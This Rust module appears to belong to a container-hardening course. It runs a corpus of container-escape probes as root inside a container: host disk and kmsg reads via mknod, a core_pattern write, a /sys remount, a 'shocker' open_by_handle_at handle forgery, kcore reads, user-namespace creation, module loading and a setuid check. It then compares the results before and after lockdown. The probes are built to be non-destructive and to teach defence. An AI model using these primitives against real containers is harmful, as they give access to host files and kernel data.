//! The escape corpus: what root inside a container tries, first against
//! lesson 10's settings, then against lesson 11's.
//!
//! Each attempt proves a door open without doing damage: it reads instead
//! of writing, writes back the value that is already there, makes a node
//! it only reads from, loads a "module" that is not one, and asks for a
//! user namespace in a child that exits at once. Its outcome is what the
//! kernel answered. The program runs inside the container, as
//! [`super::kit::PROGRAM`]; it prints each outcome as it goes and leaves
//! them all in [`RESULTS`], on the container's writable layer, where the
//! lesson reads them once the container has ended.

use nix::errno::Errno;
use nix::fcntl::OFlag;
use nix::sys::stat::{mknod, Mode, SFlag};
use nix::sys::wait::{waitpid, WaitStatus};
use nix::unistd::{fork, ForkResult};
use serde::{Deserialize, Serialize};
use std::ffi::CString;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::path::Path;

/// Where, inside, the corpus leaves its outcomes.
pub const RESULTS: &str = "/nslab-escapes.json";

/// Where the lesson lends the container a read-only volume, a directory of
/// the host's file system, as most containers have one.
pub const VOLUME: &str = "/mnt/volume";

/// What the kernel answered to an attempt.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Outcome {
    /// The door is open: what got through.
    Open(String),
    /// The door is closed: what refused.
    Closed(String),
}

impl Outcome {
    /// Whether the attempt got through.
    pub fn is_open(&self) -> bool {
        matches!(self, Outcome::Open(_))
    }

    /// What happened, in a few words.
    pub fn text(&self) -> &str {
        match self {
            Outcome::Open(text) | Outcome::Closed(text) => text,
        }
    }
}

/// One attempt and its outcome.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Attempt {
    /// A short name, the same in both runs: `"core_pattern"`.
    pub key: String,
    /// What was tried, for the table.
    pub what: String,
    /// What the kernel answered.
    pub outcome: Outcome,
}

/// Everything one run of the corpus found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Report {
    /// `CapEff` of the corpus, from `/proc/self/status`.
    pub cap_eff: String,
    /// The attempts, in order.
    pub attempts: Vec<Attempt>,
}

fn refused(step: &str, errno: Errno) -> Outcome {
    Outcome::Closed(format!("{step}: {}", errno_name(errno)))
}

/// `EPERM`, `EROFS`: the names the man pages use.
pub fn errno_name(errno: Errno) -> String {
    format!("{errno:?}")
}

/// A field of `/proc/self/status`: `"CapEff"` → `"000001ffffffffff"`.
fn status_field(name: &str) -> String {
    fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find_map(|line| {
            line.strip_prefix(&format!("{name}:"))
                .map(|v| v.trim().to_string())
        })
        .unwrap_or_default()
}

/// open(2), the descriptor owned (closed when dropped).
fn open(path: &str, flags: OFlag, mode: Mode) -> Result<OwnedFd, Errno> {
    let fd = nix::fcntl::open(path, flags | OFlag::O_CLOEXEC, mode)?;
    // SAFETY: the kernel just returned this descriptor, and nothing else owns it.
    Ok(unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) })
}

fn io_errno(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(0))
}

// ANCHOR: attempts
/// A node for the disk the volume lives on (the host's), opened and read.
fn host_disk() -> Outcome {
    let Ok(meta) = fs::metadata(VOLUME) else {
        return Outcome::Closed("no volume to find the disk by".into());
    };
    let dev = meta.dev();
    let (major, minor) = (nix::sys::stat::major(dev), nix::sys::stat::minor(dev));
    if major == 0 {
        return Outcome::Closed("the volume is on no block device".into());
    }
    device_node("/dev/nslab-host-disk", SFlag::S_IFBLK, major, minor, |fd| {
        // An ext2/3/4 superblock starts at byte 1024; its magic is at 56.
        let mut magic = [0u8; 2];
        match nix::sys::uio::pread(fd, &mut magic, 1024 + 56) {
            Ok(2) if magic == [0x53, 0xef] => Outcome::Open(format!(
                "read block {major}:{minor}'s ext4 superblock: every file of the host"
            )),
            Ok(_) => Outcome::Open(format!(
                "read block {major}:{minor}: every file of the host"
            )),
            Err(errno) => refused("read", errno),
        }
    })
}

/// A node for the kernel's log (`/dev/kmsg`, char 1:11), opened and read.
fn kernel_log() -> Outcome {
    device_node("/dev/nslab-kmsg", SFlag::S_IFCHR, 1, 11, |fd| {
        // One record per read(2), and the buffer must hold it.
        let mut record = [0u8; 8192];
        match nix::unistd::read(fd.as_raw_fd(), &mut record) {
            Ok(_) | Err(Errno::EAGAIN) => {
                Outcome::Open("read the host kernel's log through our own node".into())
            }
            Err(errno) => refused("read", errno),
        }
    })
}

/// mknod(2) in the container's /dev, then open(2), then `read`; the node is
/// removed after.
fn device_node(
    path: &str,
    kind: SFlag,
    major: u64,
    minor: u64,
    read: impl FnOnce(&OwnedFd) -> Outcome,
) -> Outcome {
    let dev = nix::sys::stat::makedev(major, minor);
    if let Err(errno) = mknod(path, kind, Mode::from_bits_truncate(0o600), dev) {
        return refused("mknod", errno);
    }
    let outcome = match open(path, OFlag::O_RDONLY | OFlag::O_NONBLOCK, Mode::empty()) {
        Ok(fd) => read(&fd),
        Err(errno) => refused("mknod made it, open", errno),
    };
    let _ = fs::remove_file(path);
    outcome
}

/// The host's core dump handler, written back with the value it has.
fn core_pattern() -> Outcome {
    let path = "/proc/sys/kernel/core_pattern";
    let value = match fs::read(path) {
        Ok(value) => value,
        Err(error) => return refused("read", io_errno(&error)),
    };
    match fs::write(path, &value) {
        Ok(()) => Outcome::Open("written (its own value back): the host's, not namespaced".into()),
        Err(error) => refused("write", io_errno(&error)),
    }
}

/// `/sys` remounted read-write. The container's own sysfs mount (of its
/// own network namespace: the lesson refuses `--net host`), so nothing of
/// the host's changes.
fn remount_sys() -> Outcome {
    use nix::mount::MsFlags;
    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_NOSUID | MsFlags::MS_NODEV | MsFlags::MS_NOEXEC;
    match nix::mount::mount(None::<&str>, "/sys", None::<&str>, flags, None::<&str>) {
        Ok(()) => Outcome::Open("remounted read-write".into()),
        Err(errno) => refused("mount", errno),
    }
}

/// `struct file_handle` with room for any handle (MAX_HANDLE_SZ is 128).
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; 128],
}

/// open_by_handle_at(2) with a handle made up for inode 2, the root of an
/// ext4 file system: through the volume, the root of the host's file system
/// it lives on, reached by no path ("shocker").
fn open_by_handle() -> Outcome {
    let Ok(mount_fd) = open(VOLUME, OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty()) else {
        return Outcome::Closed("no volume to open by".into());
    };
    let mut handle = FileHandle {
        handle_bytes: 128,
        handle_type: 0,
        f_handle: [0; 128],
    };
    let mut mount_id: libc::c_int = 0;
    let path = CString::new(VOLUME).unwrap_or_default();
    // SAFETY: the handle has room for 128 bytes and says so; the path is
    // NUL-terminated; mount_id is a valid int.
    let named = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &mut handle as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    };
    if named != 0 {
        return refused("name_to_handle_at", Errno::last());
    }
    // FILEID_INO32_GEN: a 32-bit inode number and a generation.
    let forged = handle.handle_type == 1 && handle.handle_bytes == 8;
    if forged {
        handle.f_handle[..4].copy_from_slice(&2u32.to_ne_bytes());
        handle.f_handle[4..8].copy_from_slice(&0u32.to_ne_bytes());
    }
    // SAFETY: the handle is a valid struct file_handle, as filled above.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd.as_raw_fd(),
            &mut handle as *mut FileHandle,
            libc::O_RDONLY | libc::O_DIRECTORY,
        )
    };
    if fd < 0 {
        return refused("open_by_handle_at", Errno::last());
    }
    // SAFETY: the kernel just returned this descriptor to us.
    let fd = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
    let entries = nix::dir::Dir::from_fd(std::os::fd::IntoRawFd::into_raw_fd(fd))
        .map(|mut dir| dir.iter().count().saturating_sub(2))
        .unwrap_or(0);
    if forged {
        Outcome::Open(format!(
            "opened inode 2, the root of the host file system under the volume ({entries} entries)"
        ))
    } else {
        Outcome::Open(
            "opened a directory by handle (this file system's are not forged here)".into(),
        )
    }
}

/// A few bytes of the host kernel's memory map (`/proc/kcore`), or, on a
/// kernel without it, of its timers (`/proc/timer_list`).
fn kernel_memory() -> Outcome {
    let path = ["/proc/kcore", "/proc/timer_list"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let Some(path) = path else {
        return Outcome::Closed("neither /proc/kcore nor /proc/timer_list here".into());
    };
    let fd = match open(path, OFlag::O_RDONLY, Mode::empty()) {
        Ok(fd) => fd,
        Err(errno) => return refused("open", errno),
    };
    let mut bytes = [0u8; 64];
    match nix::unistd::read(fd.as_raw_fd(), &mut bytes) {
        Ok(0) => Outcome::Closed(format!("{path} reads empty: /dev/null is over it")),
        Ok(n) => Outcome::Open(format!("read {n} bytes of {path}: the host kernel's")),
        Err(errno) => refused("read", errno),
    }
}

/// unshare(CLONE_NEWUSER) in a child: a user namespace gives back every
/// capability, over what it owns, and with them a larger kernel surface.
fn new_user_namespace() -> Outcome {
    in_child(
        || match nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER) {
            Ok(()) => 0,
            Err(errno) => errno as i32,
        },
    )
    .map_or_else(
        |errno| refused("unshare(CLONE_NEWUSER)", errno),
        |()| Outcome::Open("made one, and every capability in it".into()),
    )
}

/// init_module(2) with an image that is no module: the kernel checks the
/// capability, then the image.
fn load_module() -> Outcome {
    let image = [0u8; 64];
    // SAFETY: a valid buffer of its length, and an empty C string.
    let result = unsafe {
        libc::syscall(
            libc::SYS_init_module,
            image.as_ptr(),
            image.len(),
            c"".as_ptr(),
        )
    };
    let errno = if result == 0 {
        Errno::UnknownErrno
    } else {
        Errno::last()
    };
    let module_cap = u64::from_str_radix(&status_field("CapEff"), 16).unwrap_or(0) & (1 << 16) != 0;
    match errno {
        Errno::EPERM => refused("init_module", errno),
        // A kernel built without modules has no such call (sys_ni_syscall).
        Errno::ENOSYS if module_cap => {
            Outcome::Open("CAP_SYS_MODULE held (this kernel has no modules: ENOSYS)".into())
        }
        Errno::ENOSYS => {
            Outcome::Closed("CAP_SYS_MODULE gone (this kernel has no modules: ENOSYS)".into())
        }
        other => Outcome::Open(format!(
            "the kernel read the image ({}: not a module)",
            errno_name(other)
        )),
    }
}

/// The setuid copy of this program run by nobody: does it become root?
fn setuid_program() -> Outcome {
    let (read_end, write_end) = match nix::unistd::pipe() {
        Ok(pipe) => pipe,
        Err(errno) => return refused("pipe", errno),
    };
    let ran = in_child(|| {
        let nobody = nix::unistd::Uid::from_raw(65534);
        let nogroup = nix::unistd::Gid::from_raw(65534);
        let dropped = nix::unistd::setgroups(&[])
            .and_then(|()| nix::unistd::setresgid(nogroup, nogroup, nogroup))
            .and_then(|()| nix::unistd::setresuid(nobody, nobody, nobody))
            .and_then(|()| nix::unistd::dup2(write_end.as_raw_fd(), 1).map(drop));
        if let Err(errno) = dropped {
            return errno as i32;
        }
        let program = CString::new(super::kit::PROGRAM).unwrap_or_default();
        let argv = [c"nslab-escapes".to_owned(), c"whoami".to_owned()];
        let errno = nix::unistd::execv(&program, &argv).unwrap_err();
        errno as i32
    });
    drop(write_end);
    if let Err(errno) = ran {
        return refused("run it", errno);
    }
    let mut answer = String::new();
    let _ = std::io::Read::read_to_string(&mut fs::File::from(read_end), &mut answer);
    match answer.trim() {
        "0" => Outcome::Open("as nobody, it runs as euid 0: root".into()),
        "" => Outcome::Closed("it printed nothing".into()),
        euid => Outcome::Closed(format!("as nobody, it runs as euid {euid}: no gain")),
    }
}
// ANCHOR_END: attempts

/// Runs `body` in a forked child and waits: `Ok` when it exits 0,
/// otherwise its exit code as the errno it stands for.
fn in_child(body: impl FnOnce() -> i32) -> Result<(), Errno> {
    // SAFETY: the corpus is single-threaded; the child calls only
    // async-signal-safe functions until it execs or exits.
    match unsafe { fork() }? {
        ForkResult::Child => {
            let code = body();
            // SAFETY: _exit skips the parent's atexit handlers and buffers.
            unsafe { libc::_exit(code) }
        }
        ForkResult::Parent { child } => match waitpid(child, None)? {
            WaitStatus::Exited(_, 0) => Ok(()),
            WaitStatus::Exited(_, code) => Err(Errno::from_raw(code)),
            _ => Err(Errno::EINTR),
        },
    }
}

/// One attempt of the corpus.
pub struct Try {
    /// A short name, the same in both runs.
    pub key: &'static str,
    /// What it tries, for the table.
    pub what: &'static str,
    /// The layers of lesson 11 that close it, each shown alone by a test
    /// in tests/lesson_11_lockdown.rs.
    pub closed_by: &'static str,
    /// The attempt.
    pub attempt: fn() -> Outcome,
}

// ANCHOR: corpus
/// The attempts, in the order of the table.
pub const ATTEMPTS: &[Try] = &[
    Try {
        key: "disk",
        what: "mknod + read the host's disk",
        closed_by: "device cgroup",
        attempt: host_disk,
    },
    Try {
        key: "kmsg",
        what: "mknod + read the host's kernel log",
        closed_by: "device cgroup",
        attempt: kernel_log,
    },
    Try {
        key: "core_pattern",
        what: "write /proc/sys/kernel/core_pattern",
        closed_by: "read-only /proc/sys",
        attempt: core_pattern,
    },
    Try {
        key: "sys",
        what: "remount /sys read-write",
        closed_by: "capabilities (sys_admin), seccomp",
        attempt: remount_sys,
    },
    Try {
        key: "handle",
        what: "open_by_handle_at past the volume",
        closed_by: "capabilities (dac_read_search), seccomp",
        attempt: open_by_handle,
    },
    Try {
        key: "kcore",
        what: "read the kernel's memory or timers",
        closed_by: "masked paths",
        attempt: kernel_memory,
    },
    Try {
        key: "userns",
        what: "a new user namespace",
        closed_by: "seccomp",
        attempt: new_user_namespace,
    },
    Try {
        key: "module",
        what: "load a kernel module",
        closed_by: "capabilities (sys_module), seccomp",
        attempt: load_module,
    },
    Try {
        key: "setuid",
        what: "a setuid-root program, run by nobody",
        closed_by: "no_new_privs",
        attempt: setuid_program,
    },
];
// ANCHOR_END: corpus

/// The corpus's `main`, when the program runs as [`super::kit::NAME`]:
/// `nslab-escapes` tries every attempt; `nslab-escapes whoami` prints its
/// effective uid (the setuid attempt's other half).
pub fn main_inside(args: &[String]) -> std::process::ExitCode {
    if args.get(1).map(String::as_str) == Some("whoami") {
        println!("{}", nix::unistd::geteuid());
        return std::process::ExitCode::SUCCESS;
    }
    let cap_eff = status_field("CapEff");
    println!("inside: CapEff:         {cap_eff}");
    let mut attempts = Vec::new();
    for Try {
        key, what, attempt, ..
    } in ATTEMPTS
    {
        let outcome = attempt();
        println!(
            "inside: {:<38} {} {}",
            what,
            if outcome.is_open() {
                "open:  "
            } else {
                "closed:"
            },
            outcome.text()
        );
        attempts.push(Attempt {
            key: key.to_string(),
            what: what.to_string(),
            outcome,
        });
    }
    let report = Report { cap_eff, attempts };
    let json = serde_json::to_string_pretty(&report).unwrap_or_default();
    if let Err(error) = fs::write(RESULTS, json) {
        eprintln!("nslab-escapes: failed to write {RESULTS}: {error}");
        return std::process::ExitCode::FAILURE;
    }
    std::process::ExitCode::SUCCESS
}

/// If this program was started as the corpus ([`super::kit::NAME`]), runs
/// it and returns its exit code.
pub fn run_if_called_so() -> Option<std::process::ExitCode> {
    let args: Vec<String> = std::env::args().collect();
    let name = Path::new(args.first()?).file_name()?.to_str()?;
    (name == super::kit::NAME).then(|| main_inside(&args))
}

/// Reads a run's report from the container's writable layer `upper`.
pub fn read_report(upper: &Path) -> Option<Report> {
    let text = fs::read_to_string(upper.join(RESULTS.trim_start_matches('/'))).ok()?;
    serde_json::from_str(&text).ok()
}

/// Whether the host itself may read the disk `dir` is on: on some
/// machines (this project's CI VM among them) even the host's root may not
/// open its disk, and the disk attempt proves nothing there.
pub fn host_reads_its_disk(dir: &Path) -> Result<(), String> {
    let dev = fs::metadata(dir).map_err(|e| e.to_string())?.dev();
    let sys = format!(
        "/sys/dev/block/{}:{}/uevent",
        nix::sys::stat::major(dev),
        nix::sys::stat::minor(dev)
    );
    let uevent =
        fs::read_to_string(&sys).map_err(|_| "the volume is on no block device".to_string())?;
    let name = uevent
        .lines()
        .find_map(|l| l.strip_prefix("DEVNAME="))
        .ok_or("its device has no name")?;
    let node = format!("/dev/{name}");
    open(node.as_str(), OFlag::O_RDONLY, Mode::empty())
        .map(drop)
        .map_err(|errno| {
            format!(
                "even the host's root may not open {node} here ({})",
                errno_name(errno)
            )
        })
}

// ANCHOR: table
/// Prints the two runs side by side: each attempt, open or closed in
/// lesson 10's container and in lesson 11's, and what the kernel answered
/// the second time. `volume` is the directory lent to both, on the host's
/// disk.
pub fn print_table(before: Option<&Report>, after: Option<&Report>, volume: &Path) {
    let (Some(before), Some(after)) = (before, after) else {
        crate::narrate::warning("a run left no report: no table (its output above says why)");
        return;
    };
    // Where even the host may not read its disk, the disk attempt shows
    // nothing about containers.
    let disk_note = host_reads_its_disk(volume).err();
    println!();
    println!(
        "CapEff: {} in lesson 10's container, {} in lesson 11's",
        before.cap_eff, after.cap_eff
    );
    println!(
        "{:<38} {:<10} {:<10} closed by",
        "attempt", "lesson 10", "lesson 11"
    );
    let word = |attempt: &Attempt| {
        if attempt.key == "disk" && disk_note.is_some() {
            "n/a *"
        } else if attempt.outcome.is_open() {
            "open"
        } else {
            "closed"
        }
    };
    for first in &before.attempts {
        let Some(second) = after.attempts.iter().find(|a| a.key == first.key) else {
            continue;
        };
        let closed_by = ATTEMPTS
            .iter()
            .find(|t| t.key == first.key)
            .map_or("", |t| t.closed_by);
        let closed_by = if second.outcome.is_open() {
            "-"
        } else {
            closed_by
        };
        println!(
            "{:<38} {:<10} {:<10} {closed_by}",
            first.what,
            word(first),
            word(second)
        );
    }
    if let Some(note) = disk_note {
        println!("* {note}: the attempt proves nothing on this machine");
    }
}
// ANCHOR_END: table
